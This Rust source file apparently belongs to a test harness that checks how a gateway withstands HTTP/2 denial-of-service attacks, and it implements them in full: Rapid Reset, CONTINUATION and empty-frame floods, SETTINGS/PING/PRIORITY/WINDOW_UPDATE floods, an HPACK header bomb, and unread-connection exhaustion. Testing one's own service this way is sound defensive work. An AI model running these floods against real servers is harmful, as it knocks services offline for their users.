//! Attacks with frames of HTTP/2.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Result, anyhow, ensure};
use ipfrs_benches::process::POLL;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, FIRST_KEPT, GOAWAY, HEAD_BYTES, HEADERS, NO_FLAGS, PING, PRIORITY,
    RST_STREAM, SETTINGS, UNKNOWN, WINDOW_UPDATE, error_name, frame, get_block, kept_header, opening, wide_opening,
};
use crate::site::Target;

/// Time after which a flood that the gateway still takes has succeeded.
const PATIENCE: Duration = Duration::from_secs(60);
/// Time for which nothing can be sent after which the gateway no longer reads.
const STALL: Duration = Duration::from_secs(1);
/// Number of frames that are sent at once.
const FRAMES: u32 = 500;
/// Error code for a stream that the client no longer wants.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

pub(crate) fn rapid_reset(target: &Target) -> Result<String> {
    let block = get_block(&target.large);
    flood(target, |number| {
        streams(number)
            .flat_map(|stream| {
                let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
                [request, frame(RST_STREAM, NO_FLAGS, stream, &CANCEL)].concat()
            })
            .collect()
    })
}

pub(crate) fn provoked_resets(target: &Target) -> Result<String> {
    let block = get_block(&target.large);
    flood(target, |number| {
        streams(number)
            .flat_map(|stream| {
                let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
                [request, frame(WINDOW_UPDATE, NO_FLAGS, stream, &[0; 4])].concat()
            })
            .collect()
    })
}

pub(crate) fn continuation(target: &Target) -> Result<String> {
    // Headers that no table keeps, with a name and a value of 1 byte.
    let piece = frame(CONTINUATION, NO_FLAGS, 1, &[0x00, 1, b'x', 1, b'y'].repeat(3_000));
    unfinished_headers(target, &piece)
}

pub(crate) fn empty_continuation(target: &Target) -> Result<String> {
    unfinished_headers(target, &frame(CONTINUATION, NO_FLAGS, 1, &[]).repeat(FRAMES as usize))
}

pub(crate) fn empty_data(target: &Target) -> Result<String> {
    let mut block = vec![0x83];
    block.extend(&get_block("/api/v0/add")[1..]);
    let request = frame(HEADERS, END_HEADERS, 1, &block);
    let piece = frame(DATA, NO_FLAGS, 1, &[]).repeat(FRAMES as usize);
    flood(target, |number| if number == 0 { request.clone() } else { piece.clone() })
}

pub(crate) fn settings(target: &Target) -> Result<String> {
    repeated(target, &frame(SETTINGS, NO_FLAGS, 0, &[]))
}

pub(crate) fn ping(target: &Target) -> Result<String> {
    repeated(target, &frame(PING, NO_FLAGS, 0, &[0; 8]))
}

pub(crate) fn priority(target: &Target) -> Result<String> {
    repeated(target, &frame(PRIORITY, NO_FLAGS, 1, &[0, 0, 0, 3, 1]))
}

pub(crate) fn window_updates(target: &Target) -> Result<String> {
    repeated(target, &frame(WINDOW_UPDATE, NO_FLAGS, 0, &[0, 0, 0, 1]))
}

pub(crate) fn unknown_frames(target: &Target) -> Result<String> {
    repeated(target, &frame(UNKNOWN, NO_FLAGS, 0, b"x"))
}

pub(crate) fn header_bomb(target: &Target) -> Result<String> {
    let mut first = get_block(&target.small);
    first.extend(kept_header("x", &[b'x'; 4_000]));
    let mut next = get_block(&target.small);
    next.extend([FIRST_KEPT; 15_000]);
    flood(target, |number| {
        let block = if number == 0 { &first } else { &next };
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block)
    })
}

pub(crate) fn ping_unread(target: &Target) -> Result<String> {
    let piece = frame(PING, NO_FLAGS, 0, &[0; 8]).repeat(FRAMES as usize);
    let mut stream = TcpStream::connect(target.gateway.address())?;
    stream.set_write_timeout(Some(STALL))?;
    stream.write_all(&opening())?;
    let (start, mut sent) = (Instant::now(), 0);
    while start.elapsed() < PATIENCE {
        match stream.write_all(&piece) {
            Ok(()) => sent += piece.len(),
            Err(_) => return Ok(format!("the daemon stops reading or ends the connection after {}", megabytes(sent))),
        }
    }
    Err(anyhow!("the gateway still takes frames after {}", megabytes(sent)))
}

pub(crate) fn unread_streams(target: &Target) -> Result<String> {
    let block = get_block(&target.large);
    let connections = (target.clients / 50).max(1);
    let mut open = Vec::new();
    for _ in 0..connections {
        let mut stream = TcpStream::connect(target.gateway.address())?;
        stream.write_all(&wide_opening())?;
        for number in 0..100 {
            stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &block))?;
        }
        open.push(stream);
    }
    thread::sleep(target.time);
    Ok(format!("{connections} connections"))
}

/// Returns the streams of the piece `number`, of 100 requests each.
fn streams(number: u32) -> impl Iterator<Item = u32> {
    (100 * number..100 * (number + 1)).map(|stream| 2 * stream + 1)
}

/// Sends a frame again and again.
fn repeated(target: &Target, frame: &[u8]) -> Result<String> {
    let piece = frame.repeat(FRAMES as usize);
    flood(target, |_| piece.clone())
}

/// Begins headers and sends `piece` again and again.
fn unfinished_headers(target: &Target, piece: &[u8]) -> Result<String> {
    let begun = frame(HEADERS, END_STREAM, 1, &get_block(&target.small));
    flood(target, |number| if number == 0 { begun.clone() } else { piece.to_vec() })
}

/// Sends pieces, by their number, until the gateway ends the connection, and again until the time is over. What the
/// gateway sends is read.
///
/// # Errors
/// Returns an error if the gateway does not end a connection.
fn flood(target: &Target, mut piece: impl FnMut(u32) -> Vec<u8>) -> Result<String> {
    let (end, mut first, mut connections) = (target.end(), None, 0);
    while first.is_none() || Instant::now() < end {
        let ended = flood_once(target, &mut piece)?;
        connections += 1;
        first.get_or_insert(ended);
    }
    let Ended { sent, code } = first.unwrap_or_default();
    let how = code.map_or_else(|| "ended".to_owned(), error_name);
    Ok(format!("{how} after {}; {connections} connections", megabytes(sent)))
}

/// The end of a connection.
#[derive(Default)]
struct Ended {
    /// Bytes that were sent before.
    sent: usize,
    /// Error code of GOAWAY.
    code: Option<u32>,
}

fn flood_once(target: &Target, piece: &mut impl FnMut(u32) -> Vec<u8>) -> Result<Ended> {
    let mut stream = TcpStream::connect(target.gateway.address())?;
    stream.set_write_timeout(Some(PATIENCE))?;
    let receiver = stream.try_clone()?;
    let reader = thread::spawn(move || goaway(receiver));
    stream.write_all(&opening())?;
    let (start, mut sent) = (Instant::now(), 0);
    for number in 0.. {
        let piece = piece(number);
        if reader.is_finished() || stream.write_all(&piece).is_err() {
            break;
        }
        sent += piece.len();
        ensure!(start.elapsed() < PATIENCE, "the gateway still takes frames after {}", megabytes(sent));
    }
    // The error code may still be on its way.
    let closing = Instant::now();
    while !reader.is_finished() && closing.elapsed() < STALL {
        thread::sleep(POLL);
    }
    // It may be closed already.
    let _ = stream.shutdown(Shutdown::Both);
    let code = reader.join().map_err(|_| anyhow!("the thread that reads has failed"))?;
    Ok(Ended { sent, code })
}

/// Reads frames until the connection ends. Returns the error code of GOAWAY.
fn goaway(mut stream: TcpStream) -> Option<u32> {
    let mut code = None;
    let mut head = [0; HEAD_BYTES];
    while stream.read_exact(&mut head).is_ok() {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0; length];
        if stream.read_exact(&mut payload).is_err() {
            break;
        }
        if let (GOAWAY, Some(bytes)) = (head[3], payload.get(4..8)) {
            code = bytes.try_into().ok().map(u32::from_be_bytes);
        }
    }
    code
}

/// Formats a number of bytes in MB.
fn megabytes(bytes: usize) -> String {
    format!("{:.1} MB", bytes as f64 / 1e6)
}
